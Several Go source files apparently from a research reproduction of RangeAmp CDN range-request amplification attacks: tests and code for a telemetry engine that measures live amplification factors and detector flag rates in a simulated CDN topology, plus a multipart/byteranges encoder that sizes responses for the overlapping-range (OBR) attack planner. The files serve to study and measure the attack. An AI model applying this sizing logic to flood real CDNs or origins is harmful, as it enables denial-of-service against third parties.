	if f1.Amp.Factor != 100 {
		t.Fatalf("seed factor = %v", f1.Amp.Factor)
	}

	// Window 2: victim rate quadruples, attacker holds. The EWMA with
	// alpha 0.5 lands halfway: victim (4000+1000)/2 = 2500, factor 250.
	victim.Add(4000)
	attacker.Add(10)
	clk.Advance(time.Second)
	f2 := e.Sample()
	if got := f2.Amp.Factor; got != 250 {
		t.Errorf("smoothed factor = %v, want 250", got)
	}
	// The instantaneous window rate is still visible unsmoothed.
	if f2.Amp.VictimBps != 4000 {
		t.Errorf("window victim rate = %d, want 4000", f2.Amp.VictimBps)
	}
}

func TestVendorCacheDetectPoolDerivation(t *testing.T) {
	e, reg, clk := testEngine(t, Config{})
	reqs := reg.Counter("cdn_requests_total", "req", metrics.L("vendor", "cloudflare"))
	rej := reg.Counter("cdn_rejections_total", "rej",
		metrics.L("vendor", "cloudflare"), metrics.L("reason", "detector"))
	ups := reg.Counter("cdn_upstream_fetches_total", "ups", metrics.L("vendor", "cloudflare"))
	hits := reg.Counter("cache_hits_total", "h")
	misses := reg.Counter("cache_misses_total", "m")
	reuses := reg.Counter("cdn_pool_reuses_total", "r", metrics.L("vendor", "cloudflare"))
	dials := reg.Counter("cdn_pool_dials_total", "d", metrics.L("vendor", "cloudflare"))
	idle := reg.Gauge("cdn_pool_idle_conns", "i", metrics.L("vendor", "cloudflare"))
	insp := reg.Counter("detect_inspected_total", "i")
	flag := reg.Counter("detect_flagged_total", "f",
		metrics.L("attack", "sbr"), metrics.L("reason", "busting"))
	lat := reg.Histogram("cdn_request_duration_us", "lat", metrics.L("vendor", "cloudflare"))

	e.Sample()
	reqs.Add(100)
	rej.Add(10)
	ups.Add(60)
	hits.Add(30)
	misses.Add(70)
	reuses.Add(45)
	dials.Add(15)
	idle.Set(4)
	insp.Add(100)
	flag.Add(10)
	for i := 0; i < 100; i++ {
		lat.Observe(1000)
	}
	clk.Advance(time.Second)
	f := e.Sample()

	if len(f.Vendors) != 1 || f.Vendors[0].Vendor != "cloudflare" {
		t.Fatalf("vendors = %+v", f.Vendors)
	}
	v := f.Vendors[0]
	if v.ReqPerS != 100 || v.UpstreamPerS != 60 || v.RejectPerS["detector"] != 10 {
		t.Errorf("vendor rates = %+v", v)
	}
	if f.Cache.HitsPerS != 30 || f.Cache.MissesPerS != 70 {
		t.Errorf("cache rates = %+v", f.Cache)
	}
	if f.Cache.HitRatio != 0.3 || f.Cache.LifetimeRatio != 0.3 {
		t.Errorf("cache ratios = %+v", f.Cache)
	}
	if f.Pool.ReusesPerS != 45 || f.Pool.DialsPerS != 15 || f.Pool.ReuseRatio != 0.75 || f.Pool.Idle != 4 {
		t.Errorf("pool = %+v", f.Pool)
	}
	if f.Detect.InspectedPerS != 100 || f.Detect.FlaggedSBRPerS != 10 || f.Detect.FlaggedOBRPerS != 0 {
		t.Errorf("detect = %+v", f.Detect)
	}
	if f.Latency.Count != 100 {
		t.Errorf("latency count = %d", f.Latency.Count)
	}
	if f.Latency.P50us <= 256 || f.Latency.P50us > 1024 {
		t.Errorf("latency p50 = %d, want in (256,1024]", f.Latency.P50us)
	}
	if f.Latency.P99us < f.Latency.P50us {
		t.Errorf("p99 %d < p50 %d", f.Latency.P99us, f.Latency.P50us)
	}

	// A quiet second window: rates drop to zero, lifetime ratio holds.
	clk.Advance(time.Second)
	f2 := e.Sample()
	if f2.Cache.HitsPerS != 0 || f2.Cache.HitRatio != 0 {
		t.Errorf("quiet window cache rates = %+v", f2.Cache)
	}
	if f2.Cache.LifetimeRatio != 0.3 {
		t.Errorf("lifetime ratio drifted: %v", f2.Cache.LifetimeRatio)
	}
}

func TestRingBounded(t *testing.T) {
	e, reg, clk := testEngine(t, Config{Window: 3})
	c := seg(reg, "cdn-origin", "down")
	e.Sample()
	for i := 0; i < 10; i++ {
		c.Add(100)
		clk.Advance(time.Second)
		e.Sample()
	}
	frames := e.Frames()
	if len(frames) != 3 {
		t.Fatalf("ring len = %d, want 3", len(frames))
	}
	if frames[0].Seq != 8 || frames[2].Seq != 10 {
		t.Errorf("ring seqs = %d..%d, want 8..10", frames[0].Seq, frames[2].Seq)
	}
	if last, ok := e.Latest(); !ok || last.Seq != 10 {
		t.Errorf("Latest = %+v, %v", last, ok)
	}
}

func TestLiveGaugeLevelsPassThrough(t *testing.T) {
	e, reg, clk := testEngine(t, Config{})
	live := reg.Gauge("netsim_conns_live", "live", metrics.L("segment", "cdn-origin"))
	seg(reg, "cdn-origin", "down") // register the segment family
	e.Sample()
	live.Set(7)
	clk.Advance(time.Second)
	f := e.Sample()
	var found bool
	for _, s := range f.Segments {
		if s.Segment == "cdn-origin" {
			found = true
			if s.Live != 7 {
				t.Errorf("live = %d, want 7", s.Live)
			}
		}
	}
	if !found {
		t.Fatalf("cdn-origin segment missing: %+v", f.Segments)
	}
}

func TestStalledClockFallsBackToInterval(t *testing.T) {
	e, reg, _ := testEngine(t, Config{Interval: 2 * time.Second})
	c := seg(reg, "cdn-origin", "down")
	e.Sample()
	c.Add(4000)
	// No clock advance: the window falls back to the nominal interval.
	f := e.Sample()
	if f.IntervalMS != 2000 {
		t.Errorf("stalled-clock interval = %dms, want 2000", f.IntervalMS)
	}
	rates := map[string]int64{}
	for _, s := range f.Segments {
		rates[s.Segment] = s.DownBps
	}
	if rates["cdn-origin"] != 2000 {
		t.Errorf("stalled-clock rate = %d, want 2000", rates["cdn-origin"])
	}
}

func TestSubscribePublishAndCancel(t *testing.T) {
	e, reg, clk := testEngine(t, Config{})
	c := seg(reg, "cdn-origin", "down")
	ch, cancel := e.Subscribe(4)
	e.Sample()
	c.Add(100)
	clk.Advance(time.Second)
	e.Sample()
	select {
	case f := <-ch:
		if f.Seq != 1 {
			t.Errorf("subscribed frame seq = %d", f.Seq)
		}
	default:
		t.Fatal("no frame published")
	}
	cancel()
	if _, ok := <-ch; ok {
		t.Error("channel not closed after cancel")
	}
	cancel() // idempotent
}

func TestStopClosesSubscribers(t *testing.T) {
	e, _, _ := testEngine(t, Config{})
	ch, _ := e.Subscribe(1)
	e.Stop()
	if _, ok := <-ch; ok {
		t.Error("channel not closed by Stop")
	}
	// Subscribing after Stop yields a closed channel, not a deadlock.
	ch2, cancel2 := e.Subscribe(1)
	if _, ok := <-ch2; ok {
		t.Error("post-Stop subscription channel not closed")
	}
	cancel2()
	e.Stop() // idempotent
}

func TestSlowSubscriberDropsFramesNotSampler(t *testing.T) {
	e, reg, clk := testEngine(t, Config{})
	c := seg(reg, "cdn-origin", "down")
	ch, cancel := e.Subscribe(1)
	defer cancel()
	e.Sample()
	for i := 0; i < 5; i++ {
		c.Add(100)
		clk.Advance(time.Second)
		e.Sample() // buffer of 1: later frames drop
	}
	if got := len(e.Frames()); got != 5 {
		t.Errorf("sampler ringed %d frames, want 5", got)
	}
	f := <-ch
	if f.Seq != 1 {
		t.Errorf("subscriber saw seq %d first, want 1", f.Seq)
	}
	if n := len(ch); n != 0 {
		t.Errorf("buffer holds %d extra frames, want 0 (dropped)", n)
	}
}
