// Package obs is the live telemetry plane: a windowed rate engine
// layered on the metrics registry. Where package metrics answers "what
// has this process done since it started" (cumulative counters), obs
// answers "what is it doing right now": a ticker-driven sampler takes
// periodic registry snapshots into a bounded ring and derives rate
// series from consecutive deltas — bytes/s and connections/s per
// segment, requests/s and rejections/s per vendor, window cache-hit
// ratio, pool dial economy, detector flag rates, per-window latency
// quantiles, and the EWMA-smoothed in-flight amplification factor (the
// victim-segment byte rate over the attacker-segment byte rate, the
// paper's headline quantity observed while the flood is still running).
//
// Everything is computed from counters that already exist; obs adds no
// instrumentation to any hot path. The clock is injectable, so window
// derivation is deterministic in tests, and frames fan out to
// subscribers (the SSE handler, cdnsim's stats log, `rangeamp top`)
// through a non-blocking publish — a slow consumer drops frames rather
// than stalling the sampler.
package obs

import (
	"sync"
	"time"

	"repro/internal/metrics"
)

// Defaults for Config zero values.
const (
	DefaultInterval = time.Second
	DefaultWindow   = 120
	DefaultAlpha    = 0.3

	// DefaultVictimSegment / DefaultAttackerSegment are the segment
	// names the in-memory SBR topology and the TCP demo both use for
	// the two hops the amplification factor is a ratio of.
	DefaultVictimSegment   = "cdn-origin"
	DefaultAttackerSegment = "client-cdn"
)

// Config shapes an Engine. All fields are optional.
type Config struct {
	// Registry is the snapshot source. Nil means metrics.Default (the
	// daemon-facing fallback, consistent with the Runtime pattern).
	Registry *metrics.Registry

	// Interval is the sampling tick of Start. Default 1s. Frames built
	// by explicit Sample calls use the injected clock's elapsed time,
	// not Interval.
	Interval time.Duration

	// Window bounds the frame ring. Default 120 (two minutes at the
	// default interval).
	Window int

	// Alpha is the EWMA smoothing factor for the amplification byte
	// rates: ewma = alpha*rate + (1-alpha)*ewma. Default 0.3.
	Alpha float64

	// VictimSegment and AttackerSegment name the two netsim segments
	// whose down-direction byte rates the amplification factor is the
	// ratio of. Defaults: "cdn-origin" and "client-cdn".
	VictimSegment   string
	AttackerSegment string

	// Now is the injected clock. Nil means time.Now.
	Now func() time.Time
}

// SegmentRate is one netsim segment's window rates. Field order is the
// JSON schema the SSE stream and the live-smoke assertions rely on.
type SegmentRate struct {
	Segment string `json:"segment"`
	UpBps   int64  `json:"up_bps"`
	DownBps int64  `json:"down_bps"`
	// ConnsPerS is the window's connection-open rate; Live is the
	// current open-connection gauge (keep-alive sessions hold these
	// between requests, and leak checks assert it drains to zero).
	ConnsPerS float64 `json:"conns_per_s"`
	Live      int64   `json:"live"`
}

// VendorRate is one vendor edge's window rates.
type VendorRate struct {
	Vendor       string  `json:"vendor"`
	ReqPerS      float64 `json:"req_per_s"`
	UpstreamPerS float64 `json:"upstream_per_s"`
	// RejectPerS is the per-reason rejection rate (limits, detector,
	// overlap), present only for reasons rejecting in this window.
	RejectPerS map[string]float64 `json:"reject_per_s,omitempty"`
}

// AmpStats is the in-flight amplification view.
type AmpStats struct {
	VictimSegment   string `json:"victim_segment"`
	AttackerSegment string `json:"attacker_segment"`
	// VictimBps / AttackerBps are the window's down-direction byte
	// rates on the two segments.
	VictimBps   int64 `json:"victim_bps"`
	AttackerBps int64 `json:"attacker_bps"`
	// Factor is the EWMA-smoothed rate ratio — the live amplification
	// factor. CumFactor is the ratio of total bytes accumulated since
	// the engine's first sample, which converges exactly to the
	// Result.Stats-derived factor of the run.
	Factor    float64 `json:"factor"`
	CumFactor float64 `json:"cum_factor"`
}

// CacheStats is the edge-cache view: window hit ratio plus the
// lifetime ratio for drift comparison.
type CacheStats struct {
	HitsPerS      float64 `json:"hits_per_s"`
	MissesPerS    float64 `json:"misses_per_s"`
	HitRatio      float64 `json:"hit_ratio"`      // this window
	LifetimeRatio float64 `json:"lifetime_ratio"` // since process start
	CollapsedPerS float64 `json:"collapsed_per_s"`
}

// PoolStats is the upstream conn-pool dial economy.
type PoolStats struct {
	ReusesPerS float64 `json:"reuses_per_s"`
	DialsPerS  float64 `json:"dials_per_s"`
	// ReuseRatio is reuses/(reuses+dials) for the window: 1.0 means
	// every upstream fetch rode a pooled connection.
	ReuseRatio float64 `json:"reuse_ratio"`
	Idle       int64   `json:"idle"`
}

// DetectStats is the detector verdict-rate view.
type DetectStats struct {
	InspectedPerS  float64 `json:"inspected_per_s"`
	FlaggedOBRPerS float64 `json:"flagged_obr_per_s"`
	FlaggedSBRPerS float64 `json:"flagged_sbr_per_s"`
}

// LatencyStats are per-window edge latency quantiles, estimated from
// the cdn_request_duration_us histogram delta merged across vendors.
type LatencyStats struct {
	Count int64 `json:"count"`
	P50us int64 `json:"p50_us"`
	P95us int64 `json:"p95_us"`
	P99us int64 `json:"p99_us"`
}

// Frame is one derived window: everything the live plane knows about
// the interval between two consecutive samples.
type Frame struct {
	Seq        int64         `json:"seq"`
	Time       time.Time     `json:"time"`
	IntervalMS int64         `json:"interval_ms"`
	Segments   []SegmentRate `json:"segments,omitempty"`
	Vendors    []VendorRate  `json:"vendors,omitempty"`
	Amp        AmpStats      `json:"amp"`
	Cache      CacheStats    `json:"cache"`
	Pool       PoolStats     `json:"pool"`
	Detect     DetectStats   `json:"detect"`
	Latency    LatencyStats  `json:"latency"`
}

// Engine derives Frames from registry snapshots. Construct with New;
// drive it with Start (ticker) or explicit Sample calls (tests).
type Engine struct {
	cfg Config

	mu       sync.Mutex
	seq      int64
	prev     *metrics.Snapshot
	prevTime time.Time
	// base tracks total victim/attacker down bytes at the first sample,
	// for CumFactor.
	baseVictim, baseAttacker int64
	ewmaVictim, ewmaAttacker float64
	ring                     []Frame // bounded at cfg.Window, oldest first
	subs                     map[int]chan Frame
	nextSub                  int
	stop                     chan struct{}
	loopDone                 chan struct{}
	stopped                  bool
}

// New returns an engine for cfg (zero fields defaulted). The first
// Sample establishes the baseline snapshot; rates appear from the
// second on.
func New(cfg Config) *Engine {
	if cfg.Registry == nil {
		cfg.Registry = metrics.Default
	}
	if cfg.Interval <= 0 {
		cfg.Interval = DefaultInterval
	}
	if cfg.Window <= 0 {
		cfg.Window = DefaultWindow
	}
	if cfg.Alpha <= 0 || cfg.Alpha > 1 {
		cfg.Alpha = DefaultAlpha
	}
	if cfg.VictimSegment == "" {
		cfg.VictimSegment = DefaultVictimSegment
	}
	if cfg.AttackerSegment == "" {
		cfg.AttackerSegment = DefaultAttackerSegment
	}
	if cfg.Now == nil {
		cfg.Now = time.Now
	}
	return &Engine{cfg: cfg, subs: make(map[int]chan Frame)}
}

// Start launches the ticker-driven sampling loop. Stop ends it.
func (e *Engine) Start() {
	e.mu.Lock()
	if e.stop != nil || e.stopped {
		e.mu.Unlock()
		return
	}
	e.stop = make(chan struct{})
	e.loopDone = make(chan struct{})
	stop, done := e.stop, e.loopDone
	e.mu.Unlock()
	go func() {
		defer close(done)
		ticker := time.NewTicker(e.cfg.Interval)
		defer ticker.Stop()
		for {
			select {
			case <-ticker.C:
				e.Sample()
			case <-stop:
				return
			}
		}
	}()
}

// Stop ends the sampling loop and closes every subscriber channel, so
// subscription loops exit with the engine. Safe to call more than once,
// and safe without a prior Start.
func (e *Engine) Stop() {
	e.mu.Lock()
	if e.stopped {
		e.mu.Unlock()
		return
	}
	e.stopped = true
	stop, done := e.stop, e.loopDone
	subs := e.subs
	e.subs = make(map[int]chan Frame)
	e.mu.Unlock()
	if stop != nil {
		close(stop)
		<-done
	}
	for _, ch := range subs {
		close(ch)
	}
}

// Sample takes one registry snapshot, derives the frame for the window
// since the previous sample, appends it to the ring and publishes it to
// subscribers. The first call establishes the baseline and returns a
// zero-rate frame with Seq 0 that is neither ringed nor published.
func (e *Engine) Sample() Frame {
	now := e.cfg.Now()
	cur := e.cfg.Registry.Snapshot()

	e.mu.Lock()
	defer e.mu.Unlock()

	if e.prev == nil {
		e.prev = cur
		e.prevTime = now
		e.baseVictim = segmentDown(cur, e.cfg.VictimSegment)
		e.baseAttacker = segmentDown(cur, e.cfg.AttackerSegment)
		return Frame{Time: now}
	}

	elapsed := now.Sub(e.prevTime).Seconds()
	if elapsed <= 0 {
		// A stalled or backwards clock cannot define a rate window;
		// treat the tick as one nominal interval.
		elapsed = e.cfg.Interval.Seconds()
	}
	delta := cur.Delta(e.prev)
	e.seq++
	f := e.derive(now, elapsed, cur, delta)
	e.prev = cur
	e.prevTime = now

	e.ring = append(e.ring, f)
	if len(e.ring) > e.cfg.Window {
		e.ring = e.ring[len(e.ring)-e.cfg.Window:]
	}
	for _, ch := range e.subs {
		select {
		case ch <- f:
		default: // slow consumer: drop, never stall the sampler
		}
	}
	return f
}

// derive builds one frame from a window delta. Callers hold e.mu.
func (e *Engine) derive(now time.Time, elapsed float64, cur, delta *metrics.Snapshot) Frame {
	f := Frame{
		Seq:        e.seq,
		Time:       now,
		IntervalMS: int64(elapsed*1000 + 0.5),
	}

	// Per-segment byte and connection rates. Live gauges come from the
	// current snapshot (levels, not deltas).
	segs := map[string]*SegmentRate{}
	segNames := []string{}
	segRate := func(name string) *SegmentRate {
		s := segs[name]
		if s == nil {
			s = &SegmentRate{Segment: name}
			segs[name] = s
			segNames = append(segNames, name)
		}
		return s
	}
	vends := map[string]*VendorRate{}
	vendNames := []string{}
	vendRate := func(name string) *VendorRate {
		v := vends[name]
		if v == nil {
			v = &VendorRate{Vendor: name}
			vends[name] = v
			vendNames = append(vendNames, name)
		}
		return v
	}
	var latBounds []int64
	var latBuckets []int64

	for _, s := range delta.Samples() {
		switch s.Name {
		case "netsim_segment_bytes_total":
			seg, dir := label(s, "segment"), label(s, "direction")
			if seg == "" {
				continue
			}
			r := segRate(seg)
			if dir == "up" {
				r.UpBps = int64(float64(s.Value)/elapsed + 0.5)
			} else {
				r.DownBps = int64(float64(s.Value)/elapsed + 0.5)
			}
		case "netsim_conns_opened_total":
			if seg := label(s, "segment"); seg != "" {
				segRate(seg).ConnsPerS = rate(s.Value, elapsed)
			}
		case "cdn_requests_total":
			if v := label(s, "vendor"); v != "" {
				vendRate(v).ReqPerS = rate(s.Value, elapsed)
			}
		case "cdn_upstream_fetches_total":
			if v := label(s, "vendor"); v != "" {
				vendRate(v).UpstreamPerS = rate(s.Value, elapsed)
			}
		case "cdn_rejections_total":
			v, reason := label(s, "vendor"), label(s, "reason")
			if v == "" || reason == "" || s.Value == 0 {
				continue
			}
			vr := vendRate(v)
			if vr.RejectPerS == nil {
				vr.RejectPerS = map[string]float64{}
			}
			vr.RejectPerS[reason] = rate(s.Value, elapsed)
		case "cache_hits_total":
			f.Cache.HitsPerS += rate(s.Value, elapsed)
		case "cache_misses_total":
			f.Cache.MissesPerS += rate(s.Value, elapsed)
		case "cache_collapsed_total":
			f.Cache.CollapsedPerS += rate(s.Value, elapsed)
		case "cdn_pool_reuses_total":
			f.Pool.ReusesPerS += rate(s.Value, elapsed)
		case "cdn_pool_dials_total":
			f.Pool.DialsPerS += rate(s.Value, elapsed)
		case "detect_inspected_total":
			f.Detect.InspectedPerS += rate(s.Value, elapsed)
		case "detect_flagged_total":
			switch label(s, "attack") {
			case "obr":
				f.Detect.FlaggedOBRPerS += rate(s.Value, elapsed)
			case "sbr":
				f.Detect.FlaggedSBRPerS += rate(s.Value, elapsed)
			}
		case "cdn_request_duration_us":
			// Merge the window's latency buckets across vendors; the
			// bounds are identical (DefaultBounds) by construction.
			if latBounds == nil {
				latBounds = s.Bounds
				latBuckets = make([]int64, len(s.Buckets))
			}
			if len(s.Buckets) == len(latBuckets) {
				for i, b := range s.Buckets {
					latBuckets[i] += b
				}
				f.Latency.Count += s.Value
			}
		}
	}

	// Current levels: live connections, pool idle gauge.
	for _, s := range cur.Samples() {
		switch s.Name {
		case "netsim_conns_live":
			if seg := label(s, "segment"); seg != "" && (s.Value != 0 || segs[seg] != nil) {
				segRate(seg).Live = s.Value
			}
		case "cdn_pool_idle_conns":
			f.Pool.Idle += s.Value
		}
	}

	if hm := f.Cache.HitsPerS + f.Cache.MissesPerS; hm > 0 {
		f.Cache.HitRatio = f.Cache.HitsPerS / hm
	}
	f.Cache.LifetimeRatio = lifetimeHitRatio(cur)
	if rd := f.Pool.ReusesPerS + f.Pool.DialsPerS; rd > 0 {
		f.Pool.ReuseRatio = f.Pool.ReusesPerS / rd
	}
	if f.Latency.Count > 0 {
		f.Latency.P50us = metrics.QuantileFromBuckets(0.50, latBounds, latBuckets)
		f.Latency.P95us = metrics.QuantileFromBuckets(0.95, latBounds, latBuckets)
		f.Latency.P99us = metrics.QuantileFromBuckets(0.99, latBounds, latBuckets)
	}

	// Amplification: EWMA-smoothed byte rates on the two named
	// segments, plus the exact cumulative factor since the baseline.
	f.Amp.VictimSegment = e.cfg.VictimSegment
	f.Amp.AttackerSegment = e.cfg.AttackerSegment
	if s := segs[e.cfg.VictimSegment]; s != nil {
		f.Amp.VictimBps = s.DownBps
	}
	if s := segs[e.cfg.AttackerSegment]; s != nil {
		f.Amp.AttackerBps = s.DownBps
	}
	alpha := e.cfg.Alpha
	if e.seq == 1 {
		e.ewmaVictim = float64(f.Amp.VictimBps)
		e.ewmaAttacker = float64(f.Amp.AttackerBps)
	} else {
		e.ewmaVictim = alpha*float64(f.Amp.VictimBps) + (1-alpha)*e.ewmaVictim
		e.ewmaAttacker = alpha*float64(f.Amp.AttackerBps) + (1-alpha)*e.ewmaAttacker
	}
	if e.ewmaAttacker > 0 {
		f.Amp.Factor = e.ewmaVictim / e.ewmaAttacker
	}
	cumV := segmentDown(cur, e.cfg.VictimSegment) - e.baseVictim
	cumA := segmentDown(cur, e.cfg.AttackerSegment) - e.baseAttacker
	if cumA > 0 {
		f.Amp.CumFactor = float64(cumV) / float64(cumA)
	}

	for _, n := range segNames {
		f.Segments = append(f.Segments, *segs[n])
	}
	for _, n := range vendNames {
		f.Vendors = append(f.Vendors, *vends[n])
	}
	return f
}

// Latest returns the most recent frame, or false when no window has
// completed yet.
func (e *Engine) Latest() (Frame, bool) {
	e.mu.Lock()
	defer e.mu.Unlock()
	if len(e.ring) == 0 {
		return Frame{}, false
	}
	return e.ring[len(e.ring)-1], true
}

// Frames returns a copy of the ring, oldest first.
func (e *Engine) Frames() []Frame {
	e.mu.Lock()
	defer e.mu.Unlock()
	out := make([]Frame, len(e.ring))
	copy(out, e.ring)
	return out
}

// Subscribe registers a frame consumer with the given channel buffer
// (minimum 1) and returns the channel plus a cancel function. The
// channel closes on cancel or engine Stop. Publishes never block: a
// full buffer drops the frame.
func (e *Engine) Subscribe(buf int) (<-chan Frame, func()) {
	if buf < 1 {
		buf = 1
	}
	ch := make(chan Frame, buf)
	e.mu.Lock()
	if e.stopped {
		e.mu.Unlock()
		close(ch)
		return ch, func() {}
	}
	id := e.nextSub
	e.nextSub++
	e.subs[id] = ch
	e.mu.Unlock()
	var once sync.Once
	cancel := func() {
		once.Do(func() {
			e.mu.Lock()
			if _, ok := e.subs[id]; ok {
				delete(e.subs, id)
				close(ch)
			}
			e.mu.Unlock()
		})
	}
	return ch, cancel
}

// label returns a sample's label value, or "".
func label(s metrics.Sample, key string) string {
	for _, l := range s.Labels {
		if l.Key == key {
			return l.Value
		}
	}
	return ""
}

// rate is v per elapsed seconds.
func rate(v int64, elapsed float64) float64 { return float64(v) / elapsed }

// segmentDown reads a snapshot's cumulative down-direction byte count
// for one segment.
func segmentDown(snap *metrics.Snapshot, segment string) int64 {
	return snap.Value("netsim_segment_bytes_total",
		metrics.L("segment", segment), metrics.L("direction", "down"))
}

// lifetimeHitRatio computes hits/(hits+misses) over the cumulative
// cache counters in a snapshot, summed across label sets.
func lifetimeHitRatio(snap *metrics.Snapshot) float64 {
	var hits, misses int64
	for _, s := range snap.Samples() {
		switch s.Name {
		case "cache_hits_total":
			hits += s.Value
		case "cache_misses_total":
			misses += s.Value
		}
	}
	if hits+misses == 0 {
		return 0
	}
	return float64(hits) / float64(hits+misses)
}
