// Package multipart implements the multipart/byteranges media type
// (RFC 7233 Appendix A) with exact-byte size accounting. A multi-range
// 206 response carries one body part per requested range; in the OBR
// attack the response contains n overlapping parts and its size — which
// this package can compute without building the message — is what gets
// amplified on the fcdn-bcdn segment.
package multipart

import (
	"bytes"
	"errors"
	"fmt"
	"strings"

	"repro/internal/httpwire"
	"repro/internal/ranges"
)

// DefaultBoundary mirrors the RFC 7233 example boundary used in the
// paper's Fig 2 ("THIS_STRING_SEPARATES").
const DefaultBoundary = "THIS_STRING_SEPARATES"

// Part is a single byterange body part.
type Part struct {
	ContentType string
	Window      ranges.Resolved
	Extra       httpwire.Headers // vendor-specific per-part headers
	Data        []byte
}

// Message is a whole multipart/byteranges body.
type Message struct {
	Boundary       string
	CompleteLength int64 // the "/length" in each part's Content-Range
	Parts          []Part
}

// ContentTypeValue returns the Content-Type header value announcing the
// multipart body, e.g. "multipart/byteranges; boundary=THIS_STRING_SEPARATES".
func (m *Message) ContentTypeValue() string {
	return "multipart/byteranges; boundary=" + m.Boundary
}

// ParseContentTypeValue extracts the boundary from a
// "multipart/byteranges; boundary=..." header value.
func ParseContentTypeValue(v string) (boundary string, ok bool) {
	const prefix = "multipart/byteranges"
	if !strings.HasPrefix(strings.ToLower(strings.TrimSpace(v)), prefix) {
		return "", false
	}
	for _, param := range strings.Split(v, ";")[1:] {
		param = strings.TrimSpace(param)
		if rest, found := strings.CutPrefix(param, "boundary="); found {
			return strings.Trim(rest, `"`), rest != ""
		}
	}
	return "", false
}

// partHeaderSize returns the serialized size of one part's header block:
// dash-boundary line, Content-Type, Content-Range, extras, blank line.
func (m *Message) partHeaderSize(p Part) int64 {
	n := 2 + len(m.Boundary) + 2 // "--boundary\r\n"
	n += len("Content-Type: ") + len(p.ContentType) + 2
	n += len("Content-Range: ") + len(p.Window.ContentRange(m.CompleteLength)) + 2
	n += p.Extra.WireSize()
	n += 2 // blank line
	return int64(n)
}

// EncodedSize returns the exact byte size Encode would produce, without
// allocating the body. This is what the max-n amplification planner uses.
func (m *Message) EncodedSize() int64 {
	var n int64
	for _, p := range m.Parts {
		n += m.partHeaderSize(p) + int64(len(p.Data)) + 2 // trailing CRLF
	}
	n += int64(2 + len(m.Boundary) + 4) // "--boundary--\r\n"
	return n
}

// Encode serializes the multipart body.
func (m *Message) Encode() []byte {
	var b bytes.Buffer
	b.Grow(int(m.EncodedSize()))
	for _, p := range m.Parts {
		b.WriteString("--")
		b.WriteString(m.Boundary)
		b.WriteString("\r\n")
		b.WriteString("Content-Type: ")
		b.WriteString(p.ContentType)
		b.WriteString("\r\n")
		b.WriteString("Content-Range: ")
		b.WriteString(p.Window.ContentRange(m.CompleteLength))
		b.WriteString("\r\n")
		for _, h := range p.Extra {
			b.WriteString(h.Name)
			b.WriteString(": ")
			b.WriteString(h.Value)
			b.WriteString("\r\n")
		}
		b.WriteString("\r\n")
		b.Write(p.Data)
		b.WriteString("\r\n")
	}
	b.WriteString("--")
	b.WriteString(m.Boundary)
	b.WriteString("--\r\n")
	return b.Bytes()
}

// Decode errors.
var (
	ErrBadBoundary = errors.New("multipart: body does not start with the boundary")
	ErrBadPart     = errors.New("multipart: malformed body part")
)

// Decode parses a multipart/byteranges body produced by Encode (or an
// equivalent serialization) using the given boundary.
func Decode(body []byte, boundary string) (*Message, error) {
	m := &Message{Boundary: boundary}
	delim := []byte("--" + boundary + "\r\n")
	closer := []byte("--" + boundary + "--")
	rest := body
	for {
		if bytes.HasPrefix(rest, closer) {
			return m, nil
		}
		if !bytes.HasPrefix(rest, delim) {
			return nil, fmt.Errorf("%w (at offset %d)", ErrBadBoundary, len(body)-len(rest))
		}
		rest = rest[len(delim):]
		headerEnd := bytes.Index(rest, []byte("\r\n\r\n"))
		if headerEnd < 0 {
			return nil, fmt.Errorf("%w: missing header terminator", ErrBadPart)
		}
		var part Part
		for _, line := range strings.Split(string(rest[:headerEnd]), "\r\n") {
			name, value, found := strings.Cut(line, ":")
			if !found {
				return nil, fmt.Errorf("%w: header %q", ErrBadPart, line)
			}
			value = strings.TrimSpace(value)
			switch strings.ToLower(name) {
			case "content-type":
				part.ContentType = value
			case "content-range":
				w, complete, err := parseContentRange(value)
				if err != nil {
					return nil, err
				}
				part.Window = w
				m.CompleteLength = complete
			default:
				part.Extra.Add(name, value)
			}
		}
		rest = rest[headerEnd+4:]
		if int64(len(rest)) < part.Window.Length+2 {
			return nil, fmt.Errorf("%w: truncated data", ErrBadPart)
		}
		part.Data = append([]byte(nil), rest[:part.Window.Length]...)
		rest = rest[part.Window.Length:]
		if !bytes.HasPrefix(rest, []byte("\r\n")) {
			return nil, fmt.Errorf("%w: missing data terminator", ErrBadPart)
		}
		rest = rest[2:]
		m.Parts = append(m.Parts, part)
	}
}

// parseContentRange parses "bytes a-b/L".
func parseContentRange(v string) (ranges.Resolved, int64, error) {
	var first, last, complete int64
	if _, err := fmt.Sscanf(v, "bytes %d-%d/%d", &first, &last, &complete); err != nil {
		return ranges.Resolved{}, 0, fmt.Errorf("%w: Content-Range %q", ErrBadPart, v)
	}
	if last < first || first < 0 {
		return ranges.Resolved{}, 0, fmt.Errorf("%w: Content-Range %q", ErrBadPart, v)
	}
	return ranges.Resolved{Offset: first, Length: last - first + 1}, complete, nil
}

// PartOverhead returns the non-payload bytes one part adds for a window
// resolved against a resource of completeLength: boundary line, part
// headers, blank line and trailing CRLF. Useful for closed-form
// amplification estimates (fcdn-bcdn traffic ≈ n·(payload+overhead)).
func PartOverhead(boundary, contentType string, w ranges.Resolved, completeLength int64, extra httpwire.Headers) int64 {
	m := Message{Boundary: boundary, CompleteLength: completeLength}
	return m.partHeaderSize(Part{ContentType: contentType, Window: w, Extra: extra}) + 2
}
