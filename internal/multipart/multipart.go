// Package multipart implements the multipart/byteranges media type
// (RFC 7233 Appendix A) with exact-byte size accounting. A multi-range
// 206 response carries one body part per requested range; in the OBR
// attack the response contains n overlapping parts and its size — which
// this package can compute without building the message — is what gets
// amplified on the fcdn-bcdn segment.
package multipart

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"strconv"
	"strings"
	"sync"

	"repro/internal/httpwire"
	"repro/internal/ranges"
)

// DefaultBoundary mirrors the RFC 7233 example boundary used in the
// paper's Fig 2 ("THIS_STRING_SEPARATES").
const DefaultBoundary = "THIS_STRING_SEPARATES"

// Part is a single byterange body part.
type Part struct {
	ContentType string
	Window      ranges.Resolved
	Extra       httpwire.Headers // vendor-specific per-part headers
	Data        []byte
}

// Message is a whole multipart/byteranges body.
type Message struct {
	Boundary       string
	CompleteLength int64 // the "/length" in each part's Content-Range
	Parts          []Part
}

// ContentTypeValue returns the Content-Type header value announcing the
// multipart body, e.g. "multipart/byteranges; boundary=THIS_STRING_SEPARATES".
func (m *Message) ContentTypeValue() string {
	return "multipart/byteranges; boundary=" + m.Boundary
}

// ParseContentTypeValue extracts the boundary from a
// "multipart/byteranges; boundary=..." header value. The boundary is
// validated after quote stripping: a quoted-empty `boundary=""` or a
// value outside the RFC 2046 boundary grammar returns ok=false.
